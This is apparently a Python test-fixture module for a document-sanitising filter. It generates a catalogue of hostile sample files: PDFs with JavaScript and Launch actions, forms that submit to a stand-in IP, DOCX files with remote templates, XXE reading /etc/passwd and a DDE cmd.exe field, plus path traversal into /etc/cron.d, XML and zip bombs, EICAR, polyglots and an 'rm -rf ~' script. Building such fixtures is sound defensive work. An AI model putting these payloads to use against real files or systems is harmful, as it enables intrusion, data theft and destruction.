"""Files made to harm whoever opens them, each with what it tries."""

import struct
import zlib
from collections.abc import Callable

from pikepdf import Array, Dictionary, Encryption, Name, String

from egide.socle.documents.tests.fabrique import (
    EICAR,
    UN_POINT,
    action,
    annoter,
    archive,
    docx,
    docx_avec,
    image,
    joint,
    odt,
    pdf,
    relation,
)
from egide.socle.documents.tests.hostiles_pdf import PDF_NETTOYES, PDF_REFUSES

_JS = String("app.alert('essai')")
_SCRIPT = b"<script>alert('essai')</script>"


def _ouverture(genre, **details):
    def armer(document):
        document.Root.OpenAction = action(genre, **details)

    return pdf(armer)


def _pdf_fichier_joint():
    def armer(document):
        document.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("facture"), joint(document)])))
        annoter(document, "FileAttachment", FS=joint(document))

    return pdf(armer)


def _pdf_noms():
    def armer(document):
        noms = Array([String("a"), document.make_indirect(action("JavaScript", JS=_JS))])
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=noms))

    return pdf(armer)


def _pdf_partout():
    def armer(document):
        page = document.pages[0].obj
        page.AA = Dictionary(O=action("JavaScript", JS=_JS), C=action("Launch", F=String("cmd.exe")))
        document.Root.AA = Dictionary(WC=action("JavaScript", JS=_JS))
        annoter(document, "Link", A=action("URI", URI=String("javascript:alert(1)"), Next=action("JavaScript", JS=_JS)))
        annoter(document, "Link", A=action("GoToR", F=String("\\\\203.0.113.7\\x"), D=Array([0, Name.Fit])))

    return pdf(armer)


def _pdf_signets():
    def armer(document):
        titre = document.make_indirect(Dictionary(Title=String("Ouvrir"), A=action("JavaScript", JS=_JS)))
        document.Root.Outlines = Dictionary(Type=Name.Outlines, First=titre, Last=titre, Count=1)

    return pdf(armer)


def _pdf_formulaire():
    def armer(document):
        envoi = action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://203.0.113.7/")))
        annoter(document, "Widget", FT=Name.Btn, T=String("b"), A=envoi, AA=Dictionary(E=action("JavaScript", JS=_JS)))
        champs = Array([document.pages[0].obj.Annots[0]])
        document.Root.AcroForm = Dictionary(Fields=champs, XFA=document.make_stream(b"<xdp:xdp/>"), CO=champs)

    return pdf(armer)


def _pdf_multimedia():
    def armer(document):
        contenu = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), joint(document, b"FWS", "a.swf")])))
        annoter(document, "RichMedia", RichMediaContent=contenu)
        annoter(document, "Screen", A=action("Rendition", OP=0, JS=_JS))
        annoter(document, "Movie", Movie=Dictionary(F=String("https://203.0.113.7/x.mov")))

    return pdf(armer)


def _pdf_couche_cachee():
    def armer(document):
        couche = document.make_indirect(Dictionary(Type=Name.OCG, Name=String("cachee")))
        document.Root.OCProperties = Dictionary(OCGs=Array([couche]), D=Dictionary(OFF=Array([couche])))

    return pdf(armer)


def _pdf_boucle():
    def armer(document):
        document.Root.Pages.Kids.append(document.Root.Pages)

    return pdf(armer)


def _pdf_profond():
    return b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def _png_immense():
    entete = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _morceau(b"IHDR", entete) + _morceau(b"IDAT", zlib.compress(bytes(64))) + _fin_png()


def _png_texte_gonfle():
    bombe = b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9)
    return UN_POINT[:33] + _morceau(b"zTXt", bombe) + UN_POINT[33:]


def _morceau(genre, corps):
    return struct.pack(">I", len(corps)) + genre + corps + struct.pack(">I", zlib.crc32(genre + corps))


def _fin_png():
    return _morceau(b"IEND", b"")


def _animee():
    tampon = image("PNG")
    return tampon[:33] + _morceau(b"acTL", struct.pack(">II", 2, 0)) + tampon[33:]


_RIRES = (
    "<!DOCTYPE r ["
    + '<!ENTITY a "rire">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
_XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
_DDE = (
    '</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:t>'
)

HOSTILES: dict[str, Callable[[], bytes]] = {
    "gif_et_script": lambda: b"GIF89a/*" + bytes(2) + b"*/=1;alert('essai')//",
    "page_nommee_photo.jpg": lambda: b"<!DOCTYPE html><html>" + _SCRIPT + b"</html>",
    "page_avec_marque_d_ordre": lambda: b"\xef\xbb\xbf \n<html>" + _SCRIPT,
    "dessin_svg": lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "dessin_svg_nomme.png": lambda: b"<svg onload=\"alert('essai')\"></svg>",
    "jpeg_suivi_d_une_page": lambda: image() + _SCRIPT,
    "jpeg_avec_script_en_commentaire": lambda: image(comment=_SCRIPT),
    "png_suivi_d_une_archive": lambda: image("PNG") + archive({"a.js": "alert(1)"}),
    "png_immense": _png_immense,
    "png_texte_gonfle": _png_texte_gonfle,
    "png_anime": _animee,
    "jpeg_tronque": lambda: image(taille=(600, 400))[:900],
    "jpeg_vide_derriere_sa_signature": lambda: b"\xff\xd8\xff" + bytes(200),
    "tiff": lambda: image("TIFF"),
    "bmp": lambda: image("BMP"),
    "pdf_javascript": lambda: _ouverture("JavaScript", JS=_JS),
    "pdf_lance_un_programme": lambda: _ouverture("Launch", F=String("cmd.exe")),
    "pdf_ouvre_un_fichier_joint": lambda: _ouverture("GoToE", D=Array([0, Name.Fit]), T=Dictionary(R=Name.C)),
    "pdf_envoie": lambda: _ouverture("SubmitForm", F=String("https://203.0.113.7/")),
    "pdf_importe": lambda: _ouverture("ImportData", F=String("\\\\203.0.113.7\\x.fdf")),
    "pdf_fichier_joint": _pdf_fichier_joint,
    "pdf_script_par_son_nom": _pdf_noms,
    "pdf_actions_partout": _pdf_partout,
    "pdf_script_dans_les_signets": _pdf_signets,
    "pdf_formulaire_qui_envoie": _pdf_formulaire,
    "pdf_multimedia": _pdf_multimedia,
    "pdf_couche_cachee": _pdf_couche_cachee,
    "pdf_en_boucle": _pdf_boucle,
    "pdf_profond": _pdf_profond,
    "pdf_mot_de_passe": lambda: pdf(encryption=Encryption(user="secret", owner="secret")),
    "pdf_tronque": lambda: pdf()[:120],
    "pdf_et_archive": lambda: pdf() + archive({"a.js": "alert(1)"}),
    "docx_macros": lambda: docx_avec({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
    "docx_macros_par_son_type": lambda: docx_avec(
        {"[Content_Types].xml": f'<Types><O ContentType="{_MACROS}"/></Types>'}
    ),
    "docx_modele_distant": lambda: docx_avec(
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://203.0.113.7/m.dotm")}
    ),
    "docx_image_distante": lambda: docx_avec(
        {"word/_rels/document.xml.rels": relation("image", "https://203.0.113.7/pixel.png")}
    ),
    "docx_objet_ole": lambda: docx_avec({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
    "docx_objet_deguise": lambda: docx_avec({"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60)}),
    "docx_page_incluse": lambda: docx_avec({"word/afchunk.html": b"<html>" + _SCRIPT}),
    "docx_entite_externe": lambda: docx_avec(
        {"word/document.xml": f'<?xml version="1.0"?>{_XXE}<w:document xmlns:w="{_WORD}">&x;</w:document>'}
    ),
    "docx_entite_en_utf16": lambda: docx_avec({"word/document.xml": f'<?xml version="1.0"?>{_XXE}'.encode("utf-16")}),
    "docx_commande_dde": lambda: docx(_DDE),
    "docx_bombe": lambda: docx_avec({"word/media/image1.bmp": bytes(150_000_000)}),
    "docx_chemin": lambda: docx_avec({"../../../../etc/cron.d/essai": "* * * * * root true"}),
    "odt_rires": lambda: odt("<text:p>&i;</text:p>", doctype=_RIRES),
    "odt_macros": lambda: odt(Basic__Standard__Module1="<script/>"),
    "odt_section_de_la_machine": lambda: odt(
        '<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/></text:section>'
    ),
    "odt_objet": lambda: odt(**{"Object 1__content.xml": "<a/>"}),
    "archive": lambda: archive({"lisez.txt": "bonjour"}),
    "archive_dans_archive": lambda: docx_avec({"word/media/a.png": archive({"a.exe": b"MZ"})}),
    "virus_en_texte": lambda: EICAR,
    "virus_dans_un_docx": lambda: docx_avec({"word/media/image1.png": EICAR}),
    "virus_dans_un_pdf": lambda: pdf(lambda d: d.Root.__setitem__("/AF", Array([joint(d, EICAR, "a.com")]))),
    "rtf": lambda: b"{\\rtf1\\ansi{\\object\\objocx}}",
    "raccourci_lnk": lambda: bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60),
    "raccourci_url": lambda: b"[InternetShortcut]\r\nURL=file://203.0.113.7/a.exe\r\n",
    "image_de_disque_iso": lambda: bytes(32_768) + b"\x01CD001\x01" + bytes(2_000),
    "programme_nomme_photo.jpg.exe": lambda: b"MZ\x90\x00\x03\x00\x00\x00" + bytes(100),
    "ancien_word": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "script_de_commande": lambda: b"#!/bin/sh\nrm -rf ~\n",
    "vide": lambda: b"",
    **PDF_NETTOYES,
    **PDF_REFUSES,
}
